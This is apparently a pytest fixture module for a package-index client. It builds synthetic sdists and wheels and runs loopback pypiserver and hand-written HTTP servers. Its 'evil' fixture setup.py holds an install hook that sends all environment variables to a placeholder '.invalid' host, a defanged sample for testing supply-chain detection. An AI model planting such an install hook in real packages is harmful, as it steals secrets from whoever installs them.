"""Fixture packages and loopback index servers for the index-client tests.

Packages are tiny, synthetic and defanged (the "malicious" one posts to a reserved `.invalid` host and
is never run). Servers listen on 127.0.0.1 only: a real pypiserver in a subprocess, and a stdlib
`http.server` whose answers each test writes by hand (JSON pages, broken hashes, redirects, auth).
"""

from __future__ import annotations

import base64
import hashlib
import io
import os
import socket
import subprocess
import sys
import tarfile
import threading
import time
import zipfile
from collections.abc import Mapping
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Self

import httpx
import pytest

HONEST = "cwfixture-honest"
EVIL = "cwfixture-evil"

EVIL_SETUP = """\
import json, os, urllib.request
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        body = json.dumps(dict(os.environ)).encode()
        urllib.request.urlopen(urllib.request.Request("http://collector.example.invalid/e", data=body))
        install.run(self)


setup(name="cwfixture-evil", version="0.1", cmdclass={"install": PostInstall})
"""

HONEST_SETUP = 'from setuptools import setup\n\nsetup(name="cwfixture-honest", version="{version}", packages=["cwfixture_honest"])\n'
HONEST_MODULE = 'def greet(name: str) -> str:\n    """Say hello."""\n    return f"hello {name}"\n'


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def pkg_info(name: str, version: str) -> str:
    return f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nSummary: A synthetic test package\n\nText.\n"


def sdist_bytes(name: str, version: str, files: Mapping[str, str]) -> bytes:
    top = f"{name.replace('-', '_')}-{version}"
    members = {"PKG-INFO": pkg_info(name, version), **files}
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w:gz") as tar:
        for path, text in members.items():
            data = text.encode()
            info = tarfile.TarInfo(f"{top}/{path}")
            info.size, info.mode, info.mtime = len(data), 0o644, 1_700_000_000
            tar.addfile(info, io.BytesIO(data))
    return raw.getvalue()


def wheel_bytes(name: str, version: str, files: Mapping[str, str]) -> bytes:
    dist_info = f"{name.replace('-', '_')}-{version}.dist-info"
    members = dict(files)
    members[f"{dist_info}/METADATA"] = pkg_info(name, version)
    members[f"{dist_info}/WHEEL"] = "Wheel-Version: 1.0\nGenerator: tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    record_lines = []
    for path, text in members.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
        record_lines.append(f"{path},sha256={digest},{len(text.encode())}")
    members[f"{dist_info}/RECORD"] = "\n".join([*record_lines, f"{dist_info}/RECORD,,"]) + "\n"
    raw = io.BytesIO()
    with zipfile.ZipFile(raw, "w", zipfile.ZIP_DEFLATED) as archive:
        for path, text in members.items():
            archive.writestr(zipfile.ZipInfo(path, (2023, 11, 14, 0, 0, 0)), text)
    return raw.getvalue()


def honest_sdist(version: str = "1.0") -> bytes:
    files = {"setup.py": HONEST_SETUP.format(version=version), "cwfixture_honest/__init__.py": HONEST_MODULE}
    return sdist_bytes(HONEST, version, files)


def honest_wheel(version: str = "1.0") -> bytes:
    return wheel_bytes(HONEST, version, {"cwfixture_honest/__init__.py": HONEST_MODULE})


def evil_sdist() -> bytes:
    return sdist_bytes(EVIL, "0.1", {"setup.py": EVIL_SETUP, "cwfixture_evil/__init__.py": ""})


def write_packages(folder: Path) -> dict[str, Path]:
    """The files pypiserver serves: two releases of the honest project (sdist + wheel) and the evil sdist."""
    folder.mkdir(parents=True, exist_ok=True)
    made = {
        "cwfixture_honest-1.0.tar.gz": honest_sdist("1.0"),
        "cwfixture_honest-1.0-py3-none-any.whl": honest_wheel("1.0"),
        "cwfixture_honest-0.9.tar.gz": honest_sdist("0.9"),
        "cwfixture_evil-0.1.tar.gz": evil_sdist(),
    }
    paths = {}
    for filename, data in made.items():
        (folder / filename).write_bytes(data)
        paths[filename] = folder / filename
    return paths


def free_port() -> int:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as probe:
        probe.bind(("127.0.0.1", 0))
        port: int = probe.getsockname()[1]
        return port


# -- pypiserver ------------------------------------------------------------------------------------
@dataclass
class PypiServer:
    url: str  # the simple index, with trailing slash
    process: subprocess.Popen[bytes]
    log: Path


def start_pypiserver(packages: Path, log: Path, ready_within: float = 60.0) -> PypiServer:
    """`python -m pypiserver run` on a free loopback port; never falls back to the public index."""
    port = free_port()
    command = [
        sys.executable,
        "-m",
        "pypiserver",
        "run",
        "-p",
        str(port),
        "-i",
        "127.0.0.1",
        "--disable-fallback",  # unknown projects answer 404 instead of redirecting to the public index
        "-a",
        ".",
        "-P",
        ".",
        "--hash-algo",
        "sha256",
        str(packages),
    ]
    handle = log.open("wb")
    process = subprocess.Popen(command, stdout=handle, stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL)
    handle.close()
    base = f"http://127.0.0.1:{port}"
    deadline = time.monotonic() + ready_within
    with httpx.Client(trust_env=False, timeout=2.0) as probe:
        while time.monotonic() < deadline:
            if process.poll() is not None:
                raise RuntimeError(f"pypiserver exited with {process.returncode}: {log.read_text(errors='replace')}")
            try:
                if probe.get(f"{base}/health").status_code == 200:
                    return PypiServer(f"{base}/simple/", process, log)
            except httpx.TransportError:
                pass
            time.sleep(0.1)
    stop(process)
    raise RuntimeError(f"pypiserver not ready after {ready_within}s: {log.read_text(errors='replace')}")


def stop(process: subprocess.Popen[bytes]) -> None:
    if process.poll() is None:
        process.terminate()
        try:
            process.wait(timeout=10)
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait(timeout=10)


# -- a hand-written index ---------------------------------------------------------------------------
@dataclass
class Route:
    status: int = 200
    body: bytes = b""
    headers: dict[str, str] = field(default_factory=dict)
    auth: tuple[str, str] | None = None  # Basic credentials the route demands
    send_length: bool = True  # False: no Content-Length, the body ends when the connection closes
    delay: float = 0.0  # seconds to wait before answering


@dataclass
class SeenRequest:
    path: str
    headers: dict[str, str]


class StaticIndex:
    """A loopback HTTP server answering from `routes`; every request is recorded in `seen`."""

    def __init__(self) -> None:
        self.routes: dict[str, Route] = {}
        self.seen: list[SeenRequest] = []
        index = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                index.seen.append(SeenRequest(self.path, {k.lower(): v for k, v in self.headers.items()}))
                route = index.routes.get(self.path)
                if route is None:
                    self.send_error(404)
                    return
                if route.auth is not None:
                    expected = "Basic " + base64.b64encode(":".join(route.auth).encode()).decode()
                    if self.headers.get("Authorization") != expected:
                        self.send_response(401)
                        self.send_header("WWW-Authenticate", 'Basic realm="test"')
                        self.send_header("Content-Length", "0")
                        self.end_headers()
                        return
                time.sleep(route.delay)
                self.send_response(route.status)
                headers = dict(route.headers)
                if route.send_length:
                    headers.setdefault("Content-Length", str(len(route.body)))
                for name, value in headers.items():
                    self.send_header(name, value)
                self.end_headers()
                try:
                    self.wfile.write(route.body)
                except (BrokenPipeError, ConnectionResetError):
                    pass  # the client stopped reading (a size limit did its job)

            def log_message(self, format: str, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.port = self.server.server_address[1]
        self.base = f"http://127.0.0.1:{self.port}"
        self._thread = threading.Thread(target=self.server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)

    def __enter__(self) -> Self:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()
        self._thread.join(timeout=10)

    def add(
        self,
        path: str,
        body: bytes | str,
        content_type: str = "text/html",
        *,
        status: int = 200,
        headers: dict[str, str] | None = None,
        auth: tuple[str, str] | None = None,
        delay: float = 0.0,
    ) -> None:
        data = body.encode() if isinstance(body, str) else body
        all_headers = {"Content-Type": content_type, **(headers or {})}
        self.routes[path] = Route(status=status, body=data, headers=all_headers, auth=auth, delay=delay)

    def add_file(self, path: str, data: bytes) -> None:
        self.routes[path] = Route(body=data, headers={"Content-Type": "application/octet-stream"})


_PROXY_VARIABLES = ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "NO_PROXY")


def isolate_from_machine(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Path:
    """No pip configuration, proxy variables, virtualenv, netrc or chainwatch cache of the machine's.

    Returns the test's own cache directory (`CHAINWATCH_CACHE_DIR`).
    """
    for name in list(os.environ):
        if name.startswith("PIP_") or name.upper() in _PROXY_VARIABLES:
            monkeypatch.delenv(name)
    # pip's own rule: PIP_CONFIG_FILE=/dev/null means no configuration file is read at all.
    monkeypatch.setenv("PIP_CONFIG_FILE", os.devnull)
    monkeypatch.delenv("VIRTUAL_ENV", raising=False)
    cache = tmp_path / "cache"
    monkeypatch.setenv("CHAINWATCH_CACHE_DIR", str(cache))
    monkeypatch.setenv("NETRC", str(tmp_path / "no-netrc"))
    return cache
